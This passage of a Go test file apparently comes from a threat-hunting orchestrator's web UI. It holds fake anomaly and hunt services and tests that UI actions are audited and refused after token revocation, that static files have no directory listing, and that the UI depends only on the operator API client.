	a.State, a.Reason, a.By = state, reason, by
	f.m[id] = a
	return a, nil
}

func (f *fakeAnomalies) Stacks(context.Context, string) ([]apiv1.Anomaly, error) { return nil, nil }
func (f *fakeAnomalies) Queries() []string                                       { return nil }
func (f *fakeAnomalies) AddRule(_ context.Context, r store.SuppressionRule) (store.SuppressionRule, error) {
	return r, nil
}
func (f *fakeAnomalies) Rules(context.Context) ([]store.SuppressionRule, error) { return nil, nil }
func (f *fakeAnomalies) DeleteRule(context.Context, int64) error                { return nil }

type fakeHunts struct {
	mu   sync.Mutex
	ran  string
	runs []store.HuntRun
}

func newFakeHunts() *fakeHunts {
	t0 := time.Date(2026, 11, 1, 8, 0, 0, 0, time.UTC)
	return &fakeHunts{runs: []store.HuntRun{{ID: 1, Hunt: "execution", Trigger: "schedule", State: "done", StartedAt: t0,
		EndedAt: t0.Add(3 * time.Second), HostsTargeted: 4, HostsResponded: 3, HostsOffline: 1, Rows: 12}}}
}

func (f *fakeHunts) info() hunts.Info {
	t0 := time.Date(2026, 11, 1, 10, 0, 0, 0, time.UTC)
	r := f.runs[0]
	return hunts.Info{Hunt: store.Hunt{Name: "execution", Description: "Execution basics", Pack: "execution-basics",
		Schedule: "0 */2 * * *", Mode: "dispatch", Enabled: true}, ScheduleWords: "every 2 hours, UTC",
		NextRuns: []time.Time{t0, t0.Add(2 * time.Hour)}, LastRun: &r}
}

func (f *fakeHunts) List(context.Context, int) ([]hunts.Info, error) {
	return []hunts.Info{f.info()}, nil
}
func (f *fakeHunts) Get(_ context.Context, name string, _ int) (hunts.Info, error) {
	if name != "execution" {
		return hunts.Info{}, store.ErrNotFound
	}
	return f.info(), nil
}
func (f *fakeHunts) Create(context.Context, store.Hunt) (store.Hunt, error) {
	return store.Hunt{}, errors.New("not in this fake")
}
func (f *fakeHunts) Update(context.Context, string, store.Hunt) (store.Hunt, error) {
	return store.Hunt{}, errors.New("not in this fake")
}
func (f *fakeHunts) Delete(context.Context, string) error { return errors.New("not in this fake") }
func (f *fakeHunts) RunNow(_ context.Context, name, by string) (store.HuntRun, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.ran = name + " by " + by
	return store.HuntRun{ID: 2, Hunt: name, Trigger: "manual", By: by, State: "running"}, nil
}
func (f *fakeHunts) Runs(context.Context, string, int) ([]store.HuntRun, error) { return f.runs, nil }
func (f *fakeHunts) RunDetail(context.Context, int64) (hunts.RunDetail, error) {
	return hunts.RunDetail{}, store.ErrNotFound
}
func (f *fakeHunts) RunRows(context.Context, int64, store.RunRowFilter) ([]store.HuntRow, error) {
	return nil, nil
}
func (f *fakeHunts) PushResults(context.Context, string, string, time.Time, int) ([]hunts.PushRow, error) {
	return nil, nil
}

func (f *fakeHunts) ranBy() string {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.ran
}

// TestUIActionsGoThroughTheAPI: triage and "run now" from the UI are the operator
// API's actions: audited with their actor, and refused once the session's token is
// revoked (the UI called the services directly: a revoked hunter's session still
// suppressed anomalies and ran hunts, and nothing was audited).
func TestUIActionsGoThroughTheAPI(t *testing.T) {
	f := newFixture(t, true)
	ctx := context.Background()
	const hunterToken = "hunter-token-for-tests"
	tok, err := f.st.CreateToken(ctx, store.Token{Name: "hunter-user", Role: apiv1.RoleHunter,
		Hash: operatorapi.HashToken(hunterToken), CreatedAt: f.now})
	if err != nil {
		t.Fatal(err)
	}
	c := f.client()
	c.login(hunterToken)
	resp, body := c.do(http.MethodPost, "/ui/anomalies/7/triage", url.Values{"csrf": {c.csrf}, "action": {"suppress"}, "reason": {"backup job"}}, nil)
	if resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("triage: %d %s", resp.StatusCode, body)
	}
	resp, body = c.do(http.MethodPost, "/ui/hunts/execution/run", url.Values{"csrf": {c.csrf}}, nil)
	if resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("run now: %d %s", resp.StatusCode, body)
	}
	for _, action := range []string{"anomaly.triage", "hunt.run"} {
		entries, err := f.st.AuditLog(ctx, store.AuditFilter{Action: action})
		if err != nil {
			t.Fatal(err)
		}
		if len(entries) != 1 || entries[0].Actor != "hunter-user" {
			t.Errorf("audit log of %s from the UI: %+v, want one entry by hunter-user", action, entries)
		}
	}

	if err := f.st.RevokeToken(ctx, tok.ID, f.now); err != nil {
		t.Fatal(err)
	}
	f.hunts.mu.Lock()
	f.hunts.ran = ""
	f.hunts.mu.Unlock()
	resp, _ = c.do(http.MethodPost, "/ui/anomalies/8/triage", url.Values{"csrf": {c.csrf}, "action": {"resolve"}}, nil)
	if a, _ := f.anomalies.Anomaly(ctx, "8"); a.State != apiv1.TriageOpen || resp.StatusCode == http.StatusSeeOther && strings.HasPrefix(resp.Header.Get("Location"), "/ui/anomalies/") {
		t.Errorf("a revoked session triaged anomaly 8: %d %s, state %s", resp.StatusCode, resp.Header.Get("Location"), a.State)
	}
	resp, _ = c.do(http.MethodPost, "/ui/hunts/execution/run", url.Values{"csrf": {c.csrf}}, nil)
	if ran := f.hunts.ranBy(); ran != "" {
		t.Errorf("a revoked session ran a hunt (%d): %s", resp.StatusCode, ran)
	}
	for _, p := range []string{"/ui/anomalies", "/ui/hunts"} {
		if resp, body := c.get(p); resp.StatusCode == http.StatusOK && strings.Contains(body, "execution") {
			t.Errorf("a revoked session still reads %s", p)
		}
	}
}

// TestStaticHasNoListing: /ui/static/ serves files, not a directory listing.
func TestStaticHasNoListing(t *testing.T) {
	f := newFixture(t, false)
	for _, p := range []string{"/ui/static/", "/ui/static"} {
		resp, err := http.Get(f.srv.URL + p)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode == http.StatusOK && strings.Contains(string(body), "app.js") {
			t.Errorf("GET %s lists the directory: %d", p, resp.StatusCode)
		}
	}
	if resp, err := http.Get(f.srv.URL + "/ui/static/app.js"); err != nil || resp.StatusCode != http.StatusOK {
		t.Errorf("app.js: %v %v", resp, err)
	}
}

// TestUIIsAnAPIClient: the UI links no package that holds or computes data (the
// store, the stacker, the anomaly, hunt or scheduler services, the operator
// API's server side): it is a client of the operator API, through
// orchestrator/client and the API's own types (orchestrator/apiv1).
func TestUIIsAnAPIClient(t *testing.T) {
	out, err := exec.Command("go", "list", "-deps", ".").Output()
	if err != nil {
		t.Fatalf("go list: %v", err)
	}
	const module = "github.com/exechunt/exechunt/orchestrator/"
	for _, dep := range strings.Fields(string(out)) {
		for _, bad := range []string{"store", "stack", "anomalies", "hunts", "scheduler", "operatorapi", "agentapi", "server"} {
			if dep == module+bad || strings.HasPrefix(dep, module+bad+"/") {
				t.Errorf("the web UI links %s", strings.TrimPrefix(dep, "github.com/exechunt/exechunt/"))
			}
		}
	}
}
